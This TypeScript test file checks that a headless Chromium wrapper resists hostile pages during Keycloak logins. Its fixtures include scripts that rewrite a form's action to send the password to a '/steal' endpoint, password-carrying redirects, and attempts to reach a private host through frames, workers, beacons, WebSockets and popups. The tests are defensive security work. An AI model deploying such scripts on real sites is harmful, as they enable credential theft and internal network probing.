import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { findChromium, NO_CHROMIUM } from '../../../../test/support/chromium.ts'
import type { Browser, Browsers } from '../browser.ts'
import { allowedHosts } from '../hosts.ts'
import { readPage } from '../html.ts'
import { prepareChromium } from './open-chromium.ts'

const chromium = findChromium()

const PASSWORD = 'drill-pass-word'
const TIMEOUT_MS = 120_000

interface Site {
  readonly url: string
  /** Method, path and body of each request. */
  readonly requests: string[]
  answer: (request: IncomingMessage, response: ServerResponse) => void
  close(): void
}

async function startSite(host = '127.0.0.1'): Promise<Site> {
  const server = createServer((request, response) => {
    let body = ''
    request.setEncoding('utf8').on('data', (chunk: string) => {
      body += chunk
    })
    request.on('end', () => {
      site.requests.push(`${request.method} ${request.url} ${body}`)
      site.answer(request, response)
    })
  })
  server.on('upgrade', (request, socket) => {
    site.requests.push(`UPGRADE ${request.url}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, host, resolve))
  const site: Site = {
    url: `http://${host}:${(server.address() as AddressInfo).port}`,
    requests: [],
    answer: (_, response) => void response.end(),
    close() {
      server.close()
      server.closeAllConnections()
    },
  }
  return site
}

const html = (response: ServerResponse, body: string) =>
  response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><title>x</title><body>${body}`)

describe('Chromium at hostile pages', { timeout: TIMEOUT_MS }, () => {
  let browsers: Browsers
  let keycloak: Site
  let app: Site
  /** A host of the private network that belongs to nobody here. */
  let inside: Site

  beforeAll(async () => {
    if (chromium === undefined) return
    ;[keycloak, app, inside] = await Promise.all([startSite(), startSite(), startSite('127.0.0.2')])
    const open = await prepareChromium({
      path: undefined,
      env: process.env,
      insecure: false,
      ca: undefined,
      proxyFor: () => undefined,
      timeout: 60_000,
      signal: new AbortController().signal,
    })
    browsers = await open()
  }, TIMEOUT_MS)
  afterAll(async () => {
    await browsers?.close()
    for (const site of [keycloak, app, inside]) site?.close()
  })
  beforeEach(({ skip }) => {
    skip(chromium === undefined, NO_CHROMIUM)
    for (const site of [keycloak, app, inside]) site.requests.length = 0
  })

  const inTab = async <T>(work: (browser: Browser) => Promise<T>): Promise<T> => {
    const browser = await browsers.open(allowedHosts([`${keycloak.url}/realms/x`], [app.url]))
    try {
      return await work(browser)
    } finally {
      await browser.close()
    }
  }
  const FORM = `<form method="post" action="/realms/x/login-actions/authenticate">
    <input name="username"><input type="password" name="password"></form>`
  /** Fills the login form and sends it. */
  const signIn = () =>
    inTab(async (browser) => {
      const page = await browser.open(new URL(`${keycloak.url}/realms/x/auth`))
      const [form] = readPage(page.body).forms
      if (!form) throw new Error('no form')
      return browser.submit(page, form, { username: 'dora', password: PASSWORD })
    })
  const received = (...sites: Site[]) =>
    sites.flatMap(({ requests }) => requests).filter((request) => request.includes(PASSWORD))

  test('a login form is sent to Keycloak', async () => {
    keycloak.answer = ({ method }, response) => html(response, method === 'GET' ? FORM : 'thanks')
    expect((await signIn()).body).toContain('thanks')
    expect(received(keycloak)).toHaveLength(1)
  })

  test.each([307, 308])('a redirect (%i) does not take the password to the application', async (status) => {
    keycloak.answer = ({ method }, response) => {
      if (method === 'GET') html(response, FORM)
      else response.writeHead(status, { location: `${app.url}/steal` }).end()
    }
    const { host } = new URL(app.url)
    await expect(signIn()).rejects.toMatchObject({ problem: { kind: 'form-redirected', host } })
    expect(received(app)).toEqual([])
  })

  test.each([
    ['its action', 'f.action = to'],
    ['its method and action', 'f.method = "get"; f.action = to'],
    ['its action when it is sent', 'f.addEventListener("submit", () => { f.action = to })'],
  ])('a form that changes %s after it was filled keeps the password', async (_, script) => {
    keycloak.answer = ({ method }, response) => {
      const swap = `const f = document.forms[0], to = ${JSON.stringify(`${app.url}/steal`)}
        f.elements.password.addEventListener('input', () => { ${script} })`
      html(response, method === 'GET' ? `${FORM}<script>${swap}</script>` : 'thanks')
    }
    const { host } = new URL(app.url)
    await expect(signIn()).rejects.toMatchObject({ problem: { kind: 'form-redirected', host } })
    expect(received(app)).toEqual([])
  })

  test('a page reaches no private host by frames, workers, windows or WebSockets, and opens no window', async () => {
    let done = () => {}
    const tried = new Promise<void>((resolve) => {
      done = resolve
    })
    const to = (path: string) => JSON.stringify(`${inside.url}/${path}`)
    const socket = (path: string) => to(path).replace('http', 'ws')
    // Another site than 127.0.0.1: Chromium gives its frame a process of its own.
    const frame = app.url.replace('127.0.0.1', 'localhost')
    const load = (path: string) => `fetch(${to(path)}, { mode: 'no-cors' }).catch(() => {})`
    const worker = (path: string) => `URL.createObjectURL(new Blob([${JSON.stringify(load(path))}]))`
    app.answer = ({ url }, response) => {
      if (url === '/redirect') response.writeHead(302, { location: `${inside.url}/redirected` }).end()
      else if (url === '/frame') html(response, `<script>${load('frame')}; fetch('/done')</script>`)
      else if (url === '/done') {
        done()
        response.end()
      } else
        html(
          response,
          `<iframe src=${to('iframe')}></iframe><img src=${to('img')}>
          <form target="_blank" method="post" action=${to('form')}></form>
          <script>
            ${load('fetch')}; fetch('/redirect', { mode: 'no-cors' }).catch(() => {})
            navigator.sendBeacon(${to('beacon')}); new EventSource(${to('events')})
            new WebSocket(${socket('socket')}); window.open(${to('window')}); window.open('/window')
            const empty = window.open(''); empty?.document.write(${JSON.stringify(`<img src=${inside.url}/written><script>new Image().src='${inside.url}/from-script'</scr`)} + 'ipt>'); empty?.fetch(${to('from-opener')}, { mode: 'no-cors' }).catch(() => {})
            document.forms[0].requestSubmit(); new Worker(${worker('worker')})
            if (globalThis.SharedWorker) new SharedWorker(${worker('shared-worker')})
            document.body.append(Object.assign(document.createElement('iframe'), { src: '${frame}/frame' }))
          </script>`,
        )
    }
    const hosts = allowedHosts([`${keycloak.url}/realms/x`], [app.url, frame])
    const browser = await browsers.open(hosts)
    try {
      await browser.open(new URL(`${app.url}/page`))
      await tried
      await sleep(1_000)
      expect(inside.requests).toEqual([])
      expect(app.requests).not.toContain('GET /window ')
    } finally {
      await browser.close()
    }
  })

  test('a form that was swapped before it was filled gets no password', async () => {
    keycloak.answer = ({ method }, response) => html(response, method === 'GET' ? FORM : 'thanks')
    await inTab(async (browser) => {
      const page = await browser.open(new URL(`${keycloak.url}/realms/x/auth`))
      const [form] = readPage(page.body.replace('login-actions', 'other-actions')).forms
      if (!form) throw new Error('no form')
      await browser.submit(page, form, { username: 'dora', password: PASSWORD })
    })
    expect(received(keycloak)).toEqual([])
  })
})
